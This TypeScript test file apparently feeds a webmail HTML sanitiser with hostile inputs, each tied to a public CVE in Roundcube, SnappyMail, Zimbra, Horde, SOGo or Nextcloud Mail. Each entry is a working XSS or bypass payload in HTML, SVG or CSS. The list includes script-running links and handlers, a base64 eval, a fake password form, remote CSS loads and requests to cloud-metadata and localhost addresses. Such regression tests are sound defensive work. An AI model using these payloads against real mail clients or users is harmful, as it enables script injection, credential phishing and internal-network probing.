import { type Hostile, named } from './cases'

// What other webmails had to mend, each flaw as a case of ours: written anew from its public description, not
// taken from anybody's exploit. Flaws of subjects, file names, calendars and links in plain text stand in
// known-fields.ts.

const roundcube = named(`
  CVE-2009-0413 background attribute of a cell | <table><tr><td background="javascript:{js}">x</td></tr></table>
  CVE-2010-0464 names looked up before any click | <link rel="dns-prefetch" href="//canary.invalid"><meta http-equiv="x-dns-prefetch-control" content="on"><a href="{far}">x</a>
  CVE-2012-3508 script in a link | <a href="\\tjavascript:{js}">read on</a>
  CVE-2012-4668 script in a signature | <div class="signature"><img src=x onerror="{js}"></div>
  CVE-2012-6121 data and vbscript links | <a href="data:text/html,<script>{js}</script>">a</a><a href="vbscript:{js}">b</a>
  CVE-2013-5645 body that is edited as new | <textarea></textarea><img src=x onerror="{js}"><div contenteditable onfocus="{js}" autofocus>x</div>
  CVE-2015-1433 quotes inside a style attribute | <p style='font-family:&quot;x&quot; onmouseover={js} a=&quot;'>x</p>
  CVE-2015-8864 picture made of SVG | <img src="data:image/svg+xml;base64,{svg}">
  CVE-2016-4068 SVG beyond its script elements | <svg><a xlink:href="javascript:{js}"><rect width=100 height=100 onclick="{js}"/></a></svg>
  CVE-2016-4552 area of an image map | <img src=x usemap="#m"><map name="m"><area shape="rect" coords="0,0,999,999" href="javascript:{js}"></map>
  CVE-2017-6820 CSS tokens inside SVG | <svg><style>/*</style><img src=x onerror="{js}">*/</svg>
  CVE-2018-19206 style inside SVG that is never closed | <html><svg><style><//><body onload="{js}">
  CVE-2020-12625 character data | <![CDATA[><img src=x onerror="{js}">]]><p>x</p>
  CVE-2020-15562 namespace of an SVG | <svg xmlns="http://www.w3.org/1999/xhtml"><script>{js}</script><body onload="{js}"></svg>
  CVE-2020-15562 namespace with a prefix | <h:svg xmlns:h="http://www.w3.org/2000/svg"><h:script>{js}</h:script></h:svg>
  CVE-2020-16145 MathML that becomes HTML | <math><mtext></math><style></style><img src=x onerror="{js}">
  CVE-2020-16145 SVG that becomes HTML | <svg><foreignObject><p></svg><img src=x onerror="{js}">
  CVE-2020-35730 link made of link references | <p>[##str_replacement_0##] http://canary.invalid/"onmouseover={js}//</p>
  CVE-2021-26925 CSS token sequence | <style>a{x:"</style><p title='"}</style><img src=x onerror={js}>'>x</p>
  CVE-2021-46144 CSS escape at the end | <p style="content:'\\\\';background:url({far})">x</p><style>p{font-family:'\\\\';}*{background:url({far})}</style>
  CVE-2023-5631 SVG use of a data picture | <svg><use href="dAta:image/s\\tvg+xml;base64,{svg}#x"></svg>
  CVE-2024-37383 SVG animation of a link | <svg><animate attributeName="href " values="javascript:{js}" begin="0s"/><a><text y=20>x</text></a></svg>
  CVE-2024-42009 attributes after sanitising | <body title="bgcolor=foo" name="bar style=animation-name:x onanimationstart={js} foo=bar">x</body>
  CVE-2024-42010 CSS that asks elsewhere | <style>@import/**/"{far}";p{background:url( "{far}" )}</style><p>x</p>
  CVE-2024-42010 CSS attribute selectors | <style>a[href*="token=a"]{background:url({far}?a)}</style><a href="https://example.org/?token=a">x</a>
  CVE-2025-68460 style that hides its address | <style>p{background:/*}*/url({far})}</style><p>x</p>
  CVE-2025-68461 SVG animate runs script | <svg><a id=a><animate attributeName=href to="javascript:{js}" fill=freeze /><text y=20>x</text></a><set href=#a attributeName=href to="javascript:{js}"/></svg>
  CVE-2026-25916 filter picture of SVG | <svg width=1 height=1 style="position:absolute;left:-9999px"><defs><filter id=t><feImage href="{far}"/></filter></defs><rect filter="url(#t)" width=1 height=1 /></svg>
  CVE-2026-26079 comments in CSS | <p style="background:ur/**/l({far});pos/**/ition:fixed">x</p><style>p{/*\\\\*/background:url({far})/**/}</style>
  CVE-2026-35540 style sheet on the local network | <link rel="stylesheet" href="http://127.0.0.1:25/x.css"><link rel=stylesheet href="{far}.css">
  CVE-2026-48843 style sheet behind another spelling | <style>@import url(http://[::ffff:127.0.0.1]/x.css);@import url({far}.css)</style>
  Roundcube 1.6.14 body background | <body background='{far}" style="position:fixed'>x</body>
  Roundcube 1.6.14 fixed position kept by important | <div style="position:fixed ! important;top:0">x</div><style>div{position:fixed!important}</style>
  Roundcube 1.6.14 many animated attributes | <svg><image><animate attributeName=href values="{far}"/><set attributeName=xlink:href to="{far}"/></image></svg>
  Roundcube 1.6.15 animated fill, filter and stroke | <svg><rect><animate attributeName=fill values="url({far}#x)"/><animate attributeName=filter to="url({far}#x)"/><set attributeName=stroke to="url({far}#x)"/></rect></svg>
  Roundcube 1.6.19 ampersands in CSS | <p style="font-family:'&amp;quot;;background:url({far})'">x</p><p style="color:&#x26;quot;red;background:url({far})">x</p>
  Roundcube 1.6.19 property by body background | <body background="x);position:fixed;background:url({far}">x</body>
  Roundcube 1.6.19 escaped address in SVG | <svg><rect fill="ur\\\\6c({far}#x)" mask="u\\\\72l({far}#x)" clip-path="\\\\75rl({far}#x)"/></svg>
  Roundcube 1.6.19 animated src | <img><animate attributeName=src values="{far}"><svg><image><animate attributeName=src values="{far}"/></image></svg>
  Roundcube 1.6.19 host with a dot at its end | <link rel=stylesheet href="http://localhost./x.css"><img src="{far}"><img src="https://canary.invalid./x">`)

const snappymail = named(`
  CVE-2022-29360 RainLoop: text that became markup | <p title="</p><img src=x onerror={js}>">&lt;img src=x onerror={js}&gt;</p><body><textarea><img src=x onerror={js}></body>
  CVE-2024-45800 SnappyMail: table mended by the browser | <table><caption><form><math><mtext></form><form><mglyph><style></math><img src=x onerror="{js}">
  CVE-2024-45800 SnappyMail: select that drops its tags | <select><math><style></select><img src=x onerror="{js}"></style></math>
  CVE-2024-45800 SnappyMail: unknown elements | <form><x-a><svg><style><!--</style><img title="--></style><img src=x onerror={js}>">`)

const zimbra = named(`
  CVE-2017-8802 Zimbra: snippet of a message | <b title='"><img src=x onerror={js}>'>x</b>&lt;img src=x onerror={js}&gt;
  CVE-2021-35208 Zimbra: calendar body with buttons | <div id="OBJ_PREFIX_DWT1"><button onclick="{js}">Accept</button><a onfocus="{js}" autofocus href="#">x</a></div>
  CVE-2022-24682 Zimbra: attributes of calendar HTML | <div style="color:red" onmouseover='{js}' x="</div>"><img src='x'onerror='{js}'></div>
  CVE-2024-27443 Zimbra: value that opens an attribute | <a title="x&quot; onmouseover=&quot;{js}" href="https://example.org/&quot;onclick=&quot;{js}">x</a>
  CVE-2025-27915 Zimbra: details that open themselves | <details ontoggle="{js}" open><summary>invitation</summary>x</details>
  CVE-2025-66376 Zimbra: import in a style of the message | <style>@import "{far}.css";@import url('{far}.css') screen;</style><style>@\\\\69mport '{far}'</style>
  CVE-2018-6882 Zimbra: location of a part | <img src="cid:x&quot; onerror=&quot;{js}"><a href="cid:x&quot; onclick=&quot;{js}">x</a>
  Zimbra: AmpHTML beside HTML | <html amp4email><script async src="https://cdn.ampproject.org/v0.js"></script><amp-img src="{far}"></amp-img><style amp-custom>p{background:url({far})}</style><p>x</p>`)

const horde = named(`
  CVE-2021-26929 Horde: placeholder in a link | <a href="https://example.org/\\0\\0\\0{js}\\0\\0\\0">x</a>
  CVE-2022-26874 Horde: document turned into HTML | <?xml version="1.0"?><office:document xmlns:office="x"><text:a xlink:href="javascript:{js}">x</text:a><script>{js}</script></office:document>
  CVE-2025-30349 Horde: handler with base64 | <img src=x onerror="eval(atob('dG9wLnJhbigxKQ=='))"><img/src/onerror="{js}">`)

const sogo = named(`
  CVE-2022-4558 SOGo: name that is markup | <p>&lt;script&gt;{js}&lt;/script&gt;</p><script>{js}</script>
  CVE-2023-48104 SOGo: form that asks for a password | <form action="{far}" method="post" style="position:fixed;inset:0"><input name="password" type="password"><button>Sign in</button></form>
  CVE-2024-34462 SOGo: preview of an attachment | <iframe src="data:text/html,<script>{js}</script>"></iframe><object data="data:image/svg+xml;base64,{svg}"></object>
  CVE-2026-8496 SOGo: SVG that repeats | <svg><animate attributeName=x dur=1ms repeatCount=2 onrepeat="{js}" /></svg>`)

const nextcloud = named(`
  CVE-2021-32707 Nextcloud Mail: picture without a scheme | <img src="//canary.invalid/x.png"><p style="background:url(//canary.invalid/x)">x</p>
  CVE-2023-33184 Nextcloud Mail: picture inside the network | <img src="http://169.254.169.254/latest/meta-data/"><img src="http://[::1]/x">
  CVE-2025-66514 Nextcloud Mail: markup in the list | <h1 onclick="{js}"><a href="javascript:{js}">x</a></h1>`)

export const knownFlaws: readonly Hostile[] = [
  ...roundcube,
  ...snappymail,
  ...zimbra,
  ...horde,
  ...sogo,
  ...nextcloud,
]
